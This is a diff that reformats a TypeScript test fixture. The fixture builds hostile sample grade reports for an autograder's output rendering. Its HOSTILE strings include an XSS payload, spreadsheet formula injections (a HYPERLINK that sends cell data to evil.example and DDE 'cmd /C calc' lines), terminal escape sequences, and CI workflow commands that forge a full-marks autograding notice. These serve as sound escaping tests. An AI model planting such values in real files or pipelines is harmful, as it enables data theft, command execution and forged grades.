@@ -17,12 +17,13 @@ export const HOSTILE = {
   crlf: 'first line\r\nsecond line\rthird line\nfourth line',
   html: '<img src=x onerror="alert(1)"><script>alert(2)</script>',
   formula: '=HYPERLINK("http://evil.example/?"&A1,"click me")',
-  plus: '+1+cmd|\' /C calc\'!A0',
+  plus: "+1+cmd|' /C calc'!A0",
   minus: '-2+3',
-  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  at: "@SUM(1+1)*cmd|' /C calc'!A0",
   tab: '\t=1+1',
   ansi: '\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u009b31mcsi',
-  workflow: '::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}\n::add-mask::secret\n  ::error::indented',
+  workflow:
+    '::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}\n::add-mask::secret\n  ::error::indented',
   surrogate: 'lone \ud800 surrogate and \ufffe noncharacter',
 } as const;
 
@@ -39,8 +40,28 @@ export const HOSTILE_IDS = {
   minus: '-frank',
 } as const;
 
-function check(id: string, target: string, status: CheckReport['status'], points: number, maxPoints: number, message: string, extra: Partial<CheckReport> = {}): CheckReport {
-  return { id, target, title: `title of ${id}`, status, points, maxPoints, visibility: 'public', message, item: id, durationMs: 12, ...extra };
+function check(
+  id: string,
+  target: string,
+  status: CheckReport['status'],
+  points: number,
+  maxPoints: number,
+  message: string,
+  extra: Partial<CheckReport> = {},
+): CheckReport {
+  return {
+    id,
+    target,
+    title: `title of ${id}`,
+    status,
+    points,
+    maxPoints,
+    visibility: 'public',
+    message,
+    item: id,
+    durationMs: 12,
+    ...extra,
+  };
 }
 
 const CHECKS: Array<{ id: string; target: string; maxPoints: number; hidden?: boolean }> = [
@@ -50,16 +71,34 @@ const CHECKS: Array<{ id: string; target: string; maxPoints: number; hidden?: bo
   { id: 'loss.mse', target: 'mseLoss', maxPoints: 0.5 },
 ];
 
-function graded(id: string, statuses: Array<[CheckReport['status'], number, string]>, extra: Partial<SubmissionReport> = {}): SubmissionReport {
+function graded(
+  id: string,
+  statuses: Array<[CheckReport['status'], number, string]>,
+  extra: Partial<SubmissionReport> = {},
+): SubmissionReport {
   const checks = CHECKS.map((spec, i) => {
     const [status, points, message] = statuses[i];
     return check(spec.id, spec.target, status, points, spec.maxPoints, message, {
       visibility: spec.hidden ? 'hidden' : 'public',
-      ...(status === 'passed' ? {} : { diagnosis: `diag ${HOSTILE.backticks} ${HOSTILE.html}`, replay: { seed: 5, path: `0:${HOSTILE.pipes}` } }),
+      ...(status === 'passed'
+        ? {}
+        : { diagnosis: `diag ${HOSTILE.backticks} ${HOSTILE.html}`, replay: { seed: 5, path: `0:${HOSTILE.pipes}` } }),
     });
   });
   const score = checks.reduce((sum, c) => sum + Math.round(c.points * 100), 0) / 100;
-  return { id, path: `submissions/${id}`, status: 'graded', score, maxScore: 10, seed: 17, checks, manual: [], warnings: [], durationMs: 2500, ...extra };
+  return {
+    id,
+    path: `submissions/${id}`,
+    status: 'graded',
+    score,
+    maxScore: 10,
+    seed: 17,
+    checks,
+    manual: [],
+    warnings: [],
+    durationMs: 2500,
+    ...extra,
+  };
 }
 
 /** The hostile batch: six submissions, one per hostile id; every status; partial credit; a submission that could not be graded. */
@@ -74,7 +113,12 @@ export function hostileReport(): GradeReport {
     score: 0,
     maxScore: 10,
     seed: 3,
-    checks: CHECKS.map((spec) => check(spec.id, spec.target, 'skipped', 0, spec.maxPoints, notRun('rnn.ts:3:1: Unexpected "}"'), { visibility: spec.hidden ? 'hidden' : 'public', durationMs: 0 })),
+    checks: CHECKS.map((spec) =>
+      check(spec.id, spec.target, 'skipped', 0, spec.maxPoints, notRun('rnn.ts:3:1: Unexpected "}"'), {
+        visibility: spec.hidden ? 'hidden' : 'public',
+        durationMs: 0,
+      }),
+    ),
     manual: [],
     warnings: [HOSTILE.workflow],
     durationMs: 40,
@@ -86,18 +130,28 @@ export function hostileReport(): GradeReport {
       source: 'rubric|`x`.yaml',
       name: '=Lab 8 | <b>RNN</b> & `co`',
       maxScore: 10,
-      items: CHECKS.map((spec) => ({ id: spec.id, kind: 'check' as const, title: spec.id, maxPoints: spec.maxPoints, checks: [spec.id] })),
+      items: CHECKS.map((spec) => ({
+        id: spec.id,
+        kind: 'check' as const,
+        title: spec.id,
+        maxPoints: spec.maxPoints,
+        checks: [spec.id],
+      })),
     },
     sandbox: `sandbox ${HOSTILE.html}`,
     warnings: [`grader warning ${HOSTILE.ansi} ${HOSTILE.workflow}`],
     generatedAt: '2025-01-01T00:00:00.000Z',
     submissions: [
-      graded(HOSTILE_IDS.formula, [
-        ['passed', 2, ''],
-        ['failed', 0, `hidden secret: expected yHat = 0.123456 ${HOSTILE.cdataEnd}`],
-        ['failed', 1.5, `partial credit. ${ALL_HOSTILE}`],
-        ['passed', 0.5, ''],
-      ], { warnings: [`type error: ${HOSTILE.entities} ${HOSTILE.control}`] }),
+      graded(
+        HOSTILE_IDS.formula,
+        [
+          ['passed', 2, ''],
+          ['failed', 0, `hidden secret: expected yHat = 0.123456 ${HOSTILE.cdataEnd}`],
+          ['failed', 1.5, `partial credit. ${ALL_HOSTILE}`],
+          ['passed', 0.5, ''],
+        ],
+        { warnings: [`type error: ${HOSTILE.entities} ${HOSTILE.control}`] },
+      ),
       graded(HOSTILE_IDS.markup, [
         ['error', 0, `${HOSTILE.formula}`],
         ['timeout', 0, `${HOSTILE.workflow}`],
@@ -105,14 +159,25 @@ export function hostileReport(): GradeReport {
         ['failed', 0, `${HOSTILE.html} ${HOSTILE.entities} ${HOSTILE.backticks} ${HOSTILE.pipes}`],
       ]),
       broken,
-      graded(HOSTILE_IDS.ansi, [
-        ['passed', 2, ''],
-        ['passed', 3.5, ''],
-        ['passed', 4, ''],
-        ['passed', 0.5, ''],
-      ], {
-        training: { losses: [1, 0.5, 0.25], testRmseCelsius: 2.5, testPoints: [[1, 1.5], [2, 2.5]] },
-      }),
+      graded(
+        HOSTILE_IDS.ansi,
+        [
+          ['passed', 2, ''],
+          ['passed', 3.5, ''],
+          ['passed', 4, ''],
+          ['passed', 0.5, ''],
+        ],
+        {
+          training: {
+            losses: [1, 0.5, 0.25],
+            testRmseCelsius: 2.5,
+            testPoints: [
+              [1, 1.5],
+              [2, 2.5],
+            ],
+          },
+        },
+      ),
       graded(HOSTILE_IDS.at, [
         ['passed', 2, ''],
         ['failed', 0, HOSTILE.surrogate],
